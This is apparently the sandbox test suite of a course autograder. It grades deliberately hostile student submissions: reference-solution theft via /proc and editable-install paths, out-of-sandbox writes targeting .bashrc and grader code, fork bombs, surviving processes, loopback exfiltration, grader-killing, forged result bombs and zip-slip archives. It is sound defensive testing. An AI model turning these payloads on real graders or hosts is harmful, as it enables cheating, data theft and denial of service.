"""Grading an untrusted cohort (issue 11): each attack through the real `grade` path.

One run grades a cohort on ``logistic_regression.sigmoid``: two copies of the reference
(``control_a``, ``control_z``: first and last by name) and one submission per attack,
whose sigmoid does the attack the first time it is called, then answers (wrongly where
the attack's success would be what earned the points, rightly where the point is that
grading goes on). What each attack saw it writes to fd 2, which reaches only the
instructor's JSON (``untrusted.stderr``); the tests read it there and check the host side:
scores and feedback of everyone else, files outside the sandbox, the loopback listener,
processes left. A second run grades the "find the reference" attacks ``--unsandboxed``:
there they succeed (the negative control: these tests can see an attack that works).

Bounded: a 512 MB memory cap, the default process cap (64), 1 KiB files into a 64 MB
scratch, listeners on 127.0.0.1, every written target a temporary file (the real ones --
the checkout, the venv, ~/.bashrc -- are only opened for appending, never written).

The seeded zip fuzz at the end grades damaged uploads among good ones in one run.
"""
import csv
import hashlib
import io
import json
import os
import socket
import subprocess
import sys
import sysconfig
import textwrap
import time
import uuid
import zipfile
from pathlib import Path

import numpy as np
import pytest
from processes import wait_until_gone  # tests/processes.py

from course_instructor import autograder, exercises, jobs, reports
from course_instructor import sandbox as sb
from course_utils.markers import find_regions

REPO = Path(__file__).resolve().parents[1]
LR = "course_utils/logistic_regression.py"
AVAILABLE, REASON = sb.sandbox_available()
pytestmark = [pytest.mark.sandbox,
              pytest.mark.skipif(not AVAILABLE, reason=f"the sandbox cannot run here: {REASON}")]
LIMITS = jobs.Limits(timeout=15, memory_mb=512)

PRELUDE = '''
import os, sys, json, errno
def _report(**found):
    os.write(2, ("REPORT " + json.dumps(found, default=str) + "\\n").encode())
def _try(fn):
    try:
        fn()
        return "ok"
    except OSError as err:
        return errno.errorcode.get(err.errno, str(err.errno))
_first = not getattr(sys, "_attacked", False)
sys._attacked = True
'''
HONEST = '''
e = np.exp(-np.abs(z))
s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
'''
REFERENCE_MARK = "np.where(z >= 0, 1.0 / (1.0 + e)"      # only the unstubbed reference has it
FIND_REFERENCE = PRELUDE + '''
def _reference(paths):
    for d in paths:
        p = os.path.join(d, "course_utils", "logistic_regression.py")
        try:
            src = open(p).read()
        except (OSError, UnicodeDecodeError, ValueError):
            continue
        if MARK in src and "### BEGIN SOLUTION" in src:
            import importlib.util
            spec = importlib.util.spec_from_file_location("stolen_reference", p)
            module = importlib.util.module_from_spec(spec)
            try:                    # another checkout on the machine may not fit this one
                spec.loader.exec_module(module)
            except Exception:
                continue
            return module, p
    return None, None
'''


def forged_npz(shape, data_bytes):
    """The body of a sigmoid that writes, for every case, a result whose only array
    declares ``shape`` (a tuple's text) over ``data_bytes`` bytes, and exits."""
    return PRELUDE + f"""
import struct, zipfile
header = "{{'descr': '<f8', 'fortran_order': False, 'shape': {shape}, }}"
header += " " * (117 - len(header)) + "\\n"
npy = b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(header)) + header.encode()
npy += b"\\0" * {data_bytes}
for i in range(5):
    with zipfile.ZipFile(f"/job/results/case_{{i}}.npz", "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("a0.npy", npy)
    with open(f"/job/results/case_{{i}}.json", "w") as f:
        json.dump({{"ok": True, "output": {{"t": "nd", "key": "a0"}},
                   "inputs_after": {{"t": "list", "items": []}}}}, f)
os._exit(0)
"""


def attacks(ctx):
    """name -> (body of sigmoid, points expected under the sandbox)."""
    p = json.dumps(ctx)
    return {
        # -- finding the instructor's checkout (success = the reference's answer = 1 point)
        "via_proc_cwd": (FIND_REFERENCE + f"P = {p}\nMARK = P['mark']\n" + '''
seen = []
for pid in [x for x in os.listdir("/proc") if x.isdigit()] + [str(os.getppid())]:
    for link in ("cwd", "root", "exe"):
        try:
            seen.append(os.readlink(f"/proc/{pid}/{link}"))
        except OSError:
            pass
    try:
        env = open(f"/proc/{pid}/environ", "rb").read().decode("latin-1").split("\\0")
        seen += [v.split("=", 1)[1] for v in env if v.startswith(("PWD=", "HOME="))]
    except OSError:
        pass
ups = [os.path.dirname(x) for x in seen] + [os.path.dirname(os.path.dirname(x)) for x in seen]
module, where = _reference(seen + ups)
if _first:
    _report(attack="via_proc_cwd", seen=sorted(set(seen)), stolen=where)
s = module.sigmoid(z) if module else z * 0.0
''', 0),
        "via_editable_finder": (FIND_REFERENCE + f"P = {p}\nMARK = P['mark']\n" + '''
import re as _re
roots = [str(getattr(f, "__file__", "")) for f in sys.meta_path] + list(sys.path)
found = []
for folder in set([P["site"]] + sys.path):
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    for name in names:
        if name.endswith(".pth") or name.startswith("__editable__"):
            try:
                text = open(os.path.join(folder, name)).read()
            except OSError:
                continue
            found += _re.findall(r"'(/[^']+)'", text) + [l for l in text.splitlines()
                                                       if l.startswith("/")]
try:
    import course_instructor
    grading = "imported"
except ImportError:
    grading = "absent"
module, where = _reference([os.path.dirname(x.rstrip("/")) for x in found] + found)
if _first:
    _report(attack="via_editable_finder", pth_paths=found, grading=grading, stolen=where,
            meta_path=[type(f).__name__ for f in sys.meta_path])
s = module.sigmoid(z) if module else z * 0.0
''', 0),
        "via_proc_mem": (PRELUDE + '''
results = {}
stolen = False
for pid in sorted({"1", str(os.getppid())} | {x for x in os.listdir("/proc") if x.isdigit()}):
    if pid == str(os.getpid()):
        continue
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb") as mem:
            start = int(maps[0].split("-")[0], 16)
            mem.seek(start)
            mem.read(16)
        results[pid] = "read"
        stolen = True                 # it could read another process's memory
    except OSError as err:
        results[pid] = errno.errorcode.get(err.errno, str(err.errno))
    except (IndexError, ValueError):
        results[pid] = "no maps"
if _first:
    _report(attack="via_proc_mem", mem=results)
if stolen:
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
else:
    s = z * 0.0
''', 0),
        # -- writing outside the scratch (it answers rightly: the point is the files)
        "write_outside": (PRELUDE + f"P = {p}\n" + '''
def append_only(path):           # a real file of the grader's: opened, never written
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
def create(path):
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))
def write(path):
    with open(path, "a") as f:
        f.write("# planted by a submission\\n")
host_library = None
for line in open("/proc/self/mountinfo"):
    fields = line.split()
    if len(fields) > 4 and fields[4] == "/course":
        host_library = fields[3]
if _first:
    _report(attack="write_outside", host_library=host_library, result={
        "grading_code": _try(lambda: append_only(P["grading_code"])),
        "venv_pth": _try(lambda: create(P["venv_pth"])),
        "bashrc": _try(lambda: append_only(P["bashrc"])),
        "other_student": _try(lambda: write(P["other_student"])),
        "notes_beside_gradebook": _try(lambda: write(P["notes"])),
        "runner_in_sandbox": _try(lambda: write("/course/_grading_runner.py")),
        "helpers_in_sandbox": _try(lambda: write("/course/course_utils/activations.py")),
        "runner_on_host": _try(lambda: write(os.path.join(host_library or "/nonexistent",
                                                          "_grading_runner.py"))),
        "own_job": _try(lambda: write("/job/job.json")),
        "scratch": _try(lambda: write("/tmp/" + P["marker"])),
    })
''' + HONEST, 1),
        "survivor": (PRELUDE + f"P = {p}\n" + '''
if _first and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:            # double fork: reparented, in its own session
        code = ("import time; time.sleep(3); "
                f"open({P['gradebook']!r}, 'w').write('rewritten by a survivor')"
                f"  # {P['marker']}")
        os.execv(sys.executable, [sys.executable, "-S", "-c", code])
    os._exit(0)
''' + HONEST, 1),
        "loopback": (PRELUDE + f"P = {p}\n" + '''
import socket
def tcp():
    c = socket.create_connection(("127.0.0.1", P["port"]), timeout=2)
    c.sendall(b"hidden inputs")
def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"hidden inputs", ("127.0.0.1", P["udp_port"]))
def outside():
    socket.create_connection(("192.0.2.1", 80), timeout=2)     # TEST-NET-1: never routed
if _first:
    _report(attack="loopback", tcp=_try(tcp), udp=_try(udp), outside=_try(outside))
''' + HONEST, 1),
        # -- carrying hidden data back in exceptions (0 points: it raises)
        "exception_leak": (PRELUDE + '''
if np.ndim(z) and np.size(z) > 5:
    raise ValueError("hidden input: " + repr(np.asarray(z).ravel().tolist()))
class Leak(Exception):
    pass
Leak.__name__ = Leak.__qualname__ = "Leak_" + repr(float(np.ravel(z)[0])).replace(".", "_")
raise Leak(repr(np.ravel(z).tolist()))
''', 0),
        # -- resources (it answers rightly: grading goes on, caps hold)
        "fork_bomb": (PRELUDE + f"P = {p}\n" + '''
import time
if _first:
    forked, error = 0, None
    for _ in range(200):
        try:
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-S", "-c",
                         "import time; time.sleep(30)  # " + P["marker"]])
            forked += 1
        except OSError as err:
            error = errno.errorcode[err.errno]
            break
    _report(attack="fork_bomb", forked=forked, error=error)
''' + HONEST, 1),
        "memory_hog": (PRELUDE + '''
if _first:
    children = []
    for i in range(3):
        pid = os.fork()
        if pid == 0:
            try:
                block = b"x" * (300 << 20)          # 300 MB, every page written
                os._exit(0)
            except MemoryError:
                os._exit(3)
        children.append(pid)
    ends = []
    for pid in children:
        _, status = os.waitpid(pid, 0)
        ends.append(os.WTERMSIG(status) if os.WIFSIGNALED(status) else -os.WEXITSTATUS(status))
    _report(attack="memory_hog", ends=ends)    # a signal number, or minus the exit code
''' + HONEST, None),
        "small_files": (PRELUDE + f"P = {p}\n" + '''
if _first:
    count, error = 0, None
    for n in range(200_000):               # 200 MB of 1 KiB files, if nothing stopped it
        try:
            with open(f"/tmp/{P['marker']}_{n}", "wb") as f:
                f.write(b"x" * 1024)
            count += 1
        except OSError as err:
            error = errno.errorcode[err.errno]
            break
    _report(attack="small_files", count=count, error=error)
    for n in range(count):
        os.unlink(f"/tmp/{P['marker']}_{n}")
''' + HONEST, 1),
        # -- forged results (0 points: nothing forged is read)
        "deep_json": (PRELUDE + '''
for i in range(5):
    with open(f"/job/results/case_{i}.json", "w") as f:
        f.write("[" * 200_000 + "]" * 200_000)
os._exit(0)
''', 0),
        "huge_npz": (forged_npz("(1000000000000,)", data_bytes=16), 0),
        # 0 bytes, so under the cap, but a dimension NumPy cannot reshape to (red team)
        "zero_size_npz": (forged_npz("(0, 9999999999999999999)", data_bytes=0), 0),
        # -- killing the grader (it answers rightly: the run goes on)
        "kill_grader": (PRELUDE + '''
import signal
if _first:
    tried = {"ppid": _try(lambda: os.kill(os.getppid(), signal.SIGKILL)),
             "pid1": _try(lambda: os.kill(1, signal.SIGKILL))}
    for pid in [x for x in os.listdir("/proc") if x.isdigit() and int(x) not in
                (1, os.getpid())]:
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"pytest" in cmd or b"course_utils" in cmd or b"supervise" in cmd:
            tried[pid] = _try(lambda: os.kill(int(pid), signal.SIGKILL))
    _report(attack="kill_grader", tried=tried)
''' + HONEST, 1),
    }


def replace_sigmoid(ref, body):
    lines = ref.splitlines()
    region = next(r for r in find_regions(ref, "module") if r.exercise == "sigmoid")
    lines[region.begin + 1:region.end] = [region.indent + b if b else b
                                         for b in textwrap.dedent(body).splitlines()]
    return "\n".join(lines) + "\n"


def digest(path):
    try:
        return hashlib.sha256(Path(path).read_bytes()).hexdigest()
    except OSError:
        return None


@pytest.fixture(scope="module")
def cohort(tmp_path_factory):
    root = tmp_path_factory.mktemp("cohort")
    marker = f"cohort-{uuid.uuid4().hex}"
    out = root / "out"
    out.mkdir()
    (out / "notes.txt").write_text("the instructor's notes\n")
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    ref = (REPO / LR).read_text(encoding="utf-8")
    assert REFERENCE_MARK in ref
    subs = root / "subs"
    ctx = {"mark": REFERENCE_MARK, "repo": str(REPO), "marker": marker,
           "site": sysconfig.get_paths()["purelib"],
           "grading_code": str(REPO / "course_instructor" / "scoring.py"),
           "venv_pth": str(Path(sysconfig.get_paths()["purelib"], f"{marker}.pth")),
           "bashrc": str(Path.home() / ".bashrc"),
           "other_student": str(subs / "control_z" / LR),
           "notes": str(out / "notes.txt"), "gradebook": str(out / "g.csv"),
           "port": listener.getsockname()[1], "udp_port": udp.getsockname()[1]}
    plan = attacks(ctx)
    paths = {}
    for name in ["control_a", "control_z"] + sorted(plan):
        text = ref if name.startswith("control") else replace_sigmoid(ref, plan[name][0])
        (subs / name / LR).parent.mkdir(parents=True)
        (subs / name / LR).write_text(text, encoding="utf-8")
        paths[name] = subs / name
    watched = [ctx["grading_code"], ctx["bashrc"], ctx["other_student"], ctx["notes"],
               str(REPO / "course_utils" / "logistic_regression.py")]
    before = {p: digest(p) for p in watched}
    graded = autograder.grade(list(paths.values()), out / "g.csv", out / "fb", jobs=2,
                              only=["logistic_regression.sigmoid"], limits=LIMITS,
                              progress=False)
    gradebook_after_run = (out / "g.csv").read_bytes()
    data = json.loads((out / "g.json").read_text())
    yield {"graded": graded, "out": out, "data": data, "plan": plan, "ctx": ctx,
           "paths": paths, "before": before, "watched": watched, "listener": listener,
           "udp": udp, "marker": marker, "gradebook": gradebook_after_run, "root": root}
    listener.close()
    udp.close()
    pth = Path(ctx["venv_pth"])
    if pth.exists():                  # only if the sandbox failed: do not leave it behind
        pth.unlink()


def entry(cohort, name):
    sub = next(s for s in cohort["data"]["submissions"] if s["name"] == name)
    return sub["exercises"]["logistic_regression.sigmoid"]


def report(cohort, name):
    """What the attack wrote to fd 2 (kept for the instructor under 'untrusted')."""
    stderr = entry(cohort, name).get("untrusted", {}).get("stderr", "")
    lines = [line for line in stderr.splitlines() if line.startswith("REPORT ")]
    assert lines, (name, stderr[:500])
    return json.loads(lines[0][len("REPORT "):])


def test_everyone_else_keeps_their_marks(cohort):
    rows = {row["submission"]: row["logistic_regression.sigmoid"]
            for row in csv.DictReader(io.StringIO(cohort["gradebook"].decode()))}
    assert sorted(rows) == sorted(cohort["paths"])
    assert rows["control_a"] == rows["control_z"] == "1.00"
    for name, (_, points) in cohort["plan"].items():
        if points is not None:
            assert float(rows[name]) == points, (name, entry(cohort, name))
    for name in ("control_a", "control_z"):
        fb = (cohort["out"] / "fb" / f"{name}.txt").read_text()
        assert "Total: 1.00 / 1.00 points" in fb


def test_the_instructors_checkout_cannot_be_found(cohort):
    seen = report(cohort, "via_proc_cwd")
    assert seen["stolen"] is None
    assert not any(str(REPO) in s for s in seen["seen"]), seen["seen"]
    finder = report(cohort, "via_editable_finder")
    assert finder["stolen"] is None and finder["grading"] == "absent"
    assert not any(str(REPO) in s for s in finder["pth_paths"])
    mem = report(cohort, "via_proc_mem")["mem"]
    assert mem and "read" not in mem.values(), mem     # pid 1: root-owned or non-dumpable


def test_nothing_outside_the_scratch_changed(cohort):
    result = report(cohort, "write_outside")["result"]
    assert result.pop("scratch") == "ok"               # its own tmpfs /tmp
    assert result and "ok" not in result.values(), result
    assert {cohort["ctx"]["grading_code"], cohort["ctx"]["notes"]} and \
        {p: digest(p) for p in cohort["watched"]} == cohort["before"]
    assert not Path(cohort["ctx"]["venv_pth"]).exists()
    assert not Path("/tmp", cohort["marker"]).exists()
    assert entry(cohort, "control_z")["score"] == 1.0


def test_no_process_outlives_its_sandbox(cohort):
    assert wait_until_gone(cohort["marker"],
                           seconds=10) == []      # survivor and fork bomb sleepers
    time.sleep(3.5)                                     # the survivor's planned rewrite
    assert (cohort["out"] / "g.csv").read_bytes() == cohort["gradebook"]
    bomb = report(cohort, "fork_bomb")
    assert bomb["error"] == "EAGAIN" and 0 < bomb["forked"] < LIMITS.processes, bomb


def test_no_connection_reached_the_host(cohort):
    net = report(cohort, "loopback")
    assert net == {"attack": "loopback", "tcp": "ECONNREFUSED", "udp": "ok",
                   "outside": "ENETUNREACH"}            # its own loopback, no route out
    with pytest.raises(BlockingIOError):
        cohort["listener"].accept()
    with pytest.raises(BlockingIOError):
        cohort["udp"].recv(100)


def test_exceptions_carry_nothing_back(cohort):
    fb = (cohort["out"] / "fb" / "exception_leak.txt").read_text()
    assert "hidden case 1 of 5: your code raised ValueError (in sigmoid)." in fb
    assert "hidden case 2 of 5: your code raised an exception (in sigmoid)." in fb
    assert " line " not in fb                    # no line of a hidden case (breach 4)
    g = exercises.prepare(next(iter(exercises.select_exercises(
        ["logistic_regression.sigmoid"]))))
    numbers = set()
    for case in g.cases:
        for x in np.ravel(case.args[0]):
            if x not in (0.0, 30.0, -30.0, 800.0, -800.0):
                numbers |= {repr(float(x)), f"{x:.6g}", repr(float(x)).replace(".", "_")}
    numbers = {n for n in numbers if len(n.strip("-0._")) >= 4}
    assert len(numbers) > 50
    for path in (cohort["out"] / "fb").iterdir():
        text = path.read_text()
        assert not [n for n in numbers if n in text], path.name
        assert "REPORT" not in text and cohort["marker"] not in text, path.name
    for sub, results in cohort["graded"]:         # the same verdicts, said in Chinese
        text = reports.feedback_text(sub, [g], results, language="zh")
        assert not [n for n in numbers if n in text], sub.name
        assert "REPORT" not in text and cohort["marker"] not in text, sub.name
        if sub.name == "exception_leak":
            said = "隐藏用例 1（共 5 个）：你的代码抛出了 ValueError（在 sigmoid 中）。"
            assert said in text, text
    errors = entry(cohort, "exception_leak")["untrusted"]["case_errors"]
    assert any(n in errors["1"] for n in numbers)       # the instructor can still see it


def test_caps_hold_and_grading_goes_on(cohort):
    files = report(cohort, "small_files")
    assert files["error"] == "ENOSPC" and 0 < files["count"] <= (64 << 20) // 4096, files
    assert not list(Path("/tmp").glob(f"{cohort['marker']}_*"))
    hog = entry(cohort, "memory_hog")
    if "cgroup" in cohort["data"]["sandbox"]:            # one cap for the whole job
        ends = report(cohort, "memory_hog")["ends"] if hog["status"] != "memory" else [9]
        assert hog["status"] == "memory" or 9 in ends, (hog, ends)
    else:                                                # rlimits: a cap per process
        assert report(cohort, "memory_hog")["ends"] == [0, 0, 0] and hog["score"] == 1.0
    kill = report(cohort, "kill_grader")["tried"]
    assert len(kill) == 2, kill                          # no grader process to be seen
    if os.geteuid() == 0:        # the job's own uid may not signal the supervisor (root)
        assert kill["ppid"] == kill["pid1"] == "EPERM", kill
    # (unprivileged: the namespace's first process ignores signals from inside it)
    assert entry(cohort, "kill_grader")["score"] == 1.0


def test_forged_results_are_refused(cohort):
    for name in ("deep_json", "huge_npz", "zero_size_npz"):
        e = entry(cohort, name)
        assert e["status"] == "bad-result" and e["score"] == 0, e
        assert {c["message"] for c in e["cases"]} == {"your function's output could not be "
                                                      "read back."}
    assert "nested too deeply" in entry(cohort, "deep_json")["diagnostics"]
    assert "larger than the cap" in entry(cohort, "huge_npz")["diagnostics"]
    assert "dimension that is too large" in entry(cohort, "zero_size_npz")["diagnostics"]


def test_negative_control_the_same_attacks_succeed_unsandboxed(cohort, tmp_path):
    """Without the sandbox the checkout is found through /proc and the editable install:
    so the sandboxed zeros above are the sandbox's doing, not a broken attack."""
    names = ["via_proc_cwd", "via_editable_finder"]
    out = tmp_path / "unsandboxed"
    graded = autograder.grade([cohort["paths"][n] for n in names], out / "g.csv", out / "fb",
                              jobs=2, only=["logistic_regression.sigmoid"], limits=LIMITS,
                              progress=False, mode="unsandboxed")
    scores = {sub.name: res["logistic_regression.sigmoid"].score for sub, res in graded}
    assert scores == {"via_proc_cwd": 1.0, "via_editable_finder": 1.0}
    data = json.loads((out / "g.json").read_text())
    stolen = {s["name"]: json.loads(line[7:])["stolen"] for s in data["submissions"]
              for line in s["exercises"]["logistic_regression.sigmoid"]["untrusted"]["stderr"]
              .splitlines() if line.startswith("REPORT ")}
    assert stolen["via_proc_cwd"].endswith(LR)       # some checkout's (any process's cwd)
    assert stolen["via_editable_finder"] == str(REPO / LR)    # this venv's editable install


# ------------------------------------------------------------------ zip fuzz
HOG = """
import time
for _ in range(40):                    # busy processes, each in a session of its own: the
    if os.fork() == 0:                 # scheduler shares the CPU per session, so together
        os.setsid()                    # they take nearly all of it
        while True:
            pass
while True:                            # and itself, until its time is up
    pass
"""
SLOW_IMPORT = """
import time as _time
_start = _time.process_time()
while _time.process_time() - _start < 1.0:     # 1 s of CPU at import: fine alone
    pass
"""


def test_a_cpu_hog_cannot_time_out_another_submission(tmp_path):
    """Found by a red team: a submission that starts busy processes while another one is
    graded made that one time out (and the time-out was cached). The time limit is now
    CPU time: the hog's processes together use up its own limit (and it is stopped), the
    other one's CPU time is its own whatever the load; a child starved until the
    wall-clock backstop is graded again alone (tests/test_regrade.py)."""
    ref = (REPO / LR).read_text(encoding="utf-8")
    subs = {"hog": replace_sigmoid(ref, "import os\n" + HOG + "s = z"),
            "slow": ref + SLOW_IMPORT}
    paths = []
    for name, text in subs.items():
        (tmp_path / name / LR).parent.mkdir(parents=True)
        (tmp_path / name / LR).write_text(text, encoding="utf-8")
        paths.append(tmp_path / name)
    out = tmp_path / "out"
    autograder.grade(paths, out / "g.csv", out / "fb", jobs=2,
                     only=["logistic_regression.sigmoid"],
                     limits=jobs.Limits(timeout=4, memory_mb=512), progress=False)
    data = json.loads((out / "g.json").read_text())
    got = {s["name"]: s["exercises"]["logistic_regression.sigmoid"] for s in data["submissions"]}
    assert got["slow"]["status"] == "ok" and got["slow"]["score"] == 1.0, got["slow"]
    assert got["hog"]["status"] == "timeout" and got["hog"]["score"] == 0, got["hog"]


# The grader's own memory while it grades results a child made huge (breach 6 of issue
# 18: one job's results cost the grader 565 MB). Run in a process of its own, which
# reports its peak resident memory: VmHWM of /proc/self/status, which starts afresh at
# exec (ru_maxrss does not: it would count the RSS of the pytest process it was forked
# from).
MEMORY_PROBE = """
import sys
from course_instructor import autograder
out = sys.argv[1]
graded = autograder.grade(sys.argv[2:], out + "/g.csv", out + "/fb", jobs=3,
                          only=["logistic_regression.sigmoid"], progress=False)
with open("/proc/self/status") as f:
    peak_kb = next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))
print(peak_kb // 1024)
for sub, results in graded:
    r = results["logistic_regression.sigmoid"]
    print(sub.name, r.status, r.score)
"""
JSON_BOMB = """
import os as _os, sys as _sys
_item = '{"t": "float", "v": 0.5}, '
_body = ('{"ok": true, "output": {"t": "list", "v": [' + _item * 140000 + '{"t": "none"}]}, '
         '"inputs_after": {"t": "list", "v": []}}')
for _k in range(5):                  # every case's record, 3.6 MB of JSON each, then leave
    with open(_os.path.join(_sys.argv[2], f"case_{_k}.json"), "w") as _f:
        _f.write(_body)
_os._exit(0)
"""


def test_a_huge_result_costs_its_student_and_not_the_graders_memory(tmp_path):
    """Two submissions return arrays of 11 and 18 MB for every case, a third writes
    records of 3.6 MB of JSON itself (decoded, many times that); graded three at a
    time, they took the grader to 300 MB. The children may send back 4 MB in all per
    submission and a case's record is read only under 1 MB of JSON: each of them loses
    its own points (the correct one beside them does not) and the grader stays small."""
    ref = (REPO / LR).read_text(encoding="utf-8")
    subs = {"big": replace_sigmoid(ref, "import numpy as _np\ns = _np.zeros((1200, 1200))"),
            "bigger": replace_sigmoid(ref, "import numpy as _np\ns = _np.zeros((1500, 1500))"),
            "bomb": replace_sigmoid(ref, JSON_BOMB),
            "correct": ref}
    for name, text in subs.items():
        (tmp_path / name / LR).parent.mkdir(parents=True)
        (tmp_path / name / LR).write_text(text, encoding="utf-8")
    done = subprocess.run([sys.executable, "-c", MEMORY_PROBE, str(tmp_path / "out")]
                          + [str(tmp_path / name) for name in subs],
                          capture_output=True, text=True, timeout=600, cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-3000:]
    peak, *rows = done.stdout.split("\n")[:5]
    got = {name: (status, float(score)) for name, status, score in map(str.split, rows)}
    assert got["correct"] == ("ok", 1.0), got
    assert all(got[name][1] == 0 for name in ("big", "bigger", "bomb")), got
    assert int(peak) < 200, f"the grader's peak memory was {peak} MB"
    feedback = (tmp_path / "out" / "fb" / "big.txt").read_text()
    assert "too large" in feedback, feedback


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def damaged(base, rng, module_name):
    """One seeded damage of ``base``, aimed at the graded module or the zip's structure."""
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        info = zf.getinfo(module_name)
    local = info.header_offset
    data_start = local + 30 + len(info.filename.encode())
    data_end = data_start + info.compress_size
    cd_start = base.rfind(b"PK\x01\x02" + base[local + 4:local + 6])   # its directory entry
    data = bytearray(base)
    kind = rng.randint(6)
    if kind == 0:                        # a damaged deflate stream
        for _ in range(rng.randint(1, 9)):
            data[rng.randint(data_start, data_end)] ^= 1 << rng.randint(8)
    elif kind == 1:                      # random bytes over part of the stream
        at = rng.randint(data_start, data_end - 8)
        data[at:at + 8] = rng.bytes(8)
    elif kind == 2:                      # its local header
        data[local + rng.randint(4, 30)] ^= 1 << rng.randint(8)
    elif kind == 3:                      # its central directory entry
        data[max(cd_start, 0) + rng.randint(4, 46)] ^= 1 << rng.randint(8)
    elif kind == 4:                      # cut short
        data = data[:rng.randint(len(data))]
    else:                                # anywhere
        for _ in range(rng.randint(1, 5)):
            data[rng.randint(len(data))] ^= 1 << rng.randint(8)
    return bytes(data), kind


def test_zip_fuzz_no_damaged_upload_aborts_the_run_or_costs_anyone_else(tmp_path):
    ref = (REPO / LR).read_bytes()
    name = f"student/{LR}"
    rng = np.random.RandomState(11)
    subs, kinds = tmp_path / "subs", {}
    subs.mkdir()
    for k in range(6):                   # good ones, each its own bytes (no shared cache)
        (subs / f"good_{k}.zip").write_bytes(zip_bytes([
            (name, ref + f"# {k}\n".encode()), ("student/notebooks/01.ipynb", b"{}" * 50)]))
    base = zip_bytes([(name, ref), ("student/README.md", b"# mine\n" * 20)])
    for k in range(36):
        data, kind = damaged(base, rng, name)
        (subs / f"damaged_{k:02d}.zip").write_bytes(data)
        kinds[f"damaged_{k:02d}"] = kind
    hostile = {
        "slip": zip_bytes([(name, ref), ("../../escaped.py", b"x = 1\n")]),
        "bomb": zip_bytes([(name, ref + b"#" + b" " * (8 << 20))]),
        "not_utf8": zip_bytes([(name, b"def sigmoid(z):\n    return '\xff\xfe'\n")]),
        "empty": b"",
        "text": b"this is not a zip\n" * 100,
    }
    for key, data in hostile.items():
        (subs / f"hostile_{key}.zip").write_bytes(data)
    out = tmp_path / "out"
    graded = autograder.grade(sorted(subs.iterdir()), out / "g.csv", out / "fb", jobs=2,
                              only=["logistic_regression.sigmoid", "logistic_regression.predict"],
                              limits=jobs.Limits(timeout=15), progress=False)
    by_name = {sub.name: (sub, res) for sub, res in graded}
    assert len(by_name) == 6 + 36 + len(hostile)          # the run completed
    reasons = 0
    for sub_name, (_sub, res) in by_name.items():
        total = sum(r.score for r in res.values())
        if sub_name.startswith("good"):
            assert total == 3.0, (sub_name, res)
            continue
        fb = (out / "fb" / f"{sub_name}.txt").read_text()
        if total == 3.0:                 # harmless damage (a timestamp, a version field)
            assert kinds.get(sub_name) in (2, 3, 5), sub_name
            continue
        statuses = {r.status for r in res.values()}
        assert statuses <= {"not-graded", "import-error"}, (sub_name, statuses)
        assert total == 0 and ("was not graded: " in fb or "not graded: course_utils/" in fb
                               or "importing your course_utils" in fb), fb
        reasons += 1
    # Damage to the deflate stream or a cut is always caught (zlib, the CRC-32, the end
    # record); a flip in a header may hit a field nothing reads. Each kind was drawn here:
    assert sorted(set(kinds.values())) == [0, 1, 2, 3, 4, 5]
    assert reasons >= len(hostile) + sum(k in (0, 1, 4) for k in kinds.values()), reasons
    assert {r.status for r in by_name["hostile_not_utf8"][1].values()} == {"import-error"}
    assert by_name["hostile_text"][0].error == "it is not a zip file"
    assert not list(tmp_path.rglob("escaped.py"))
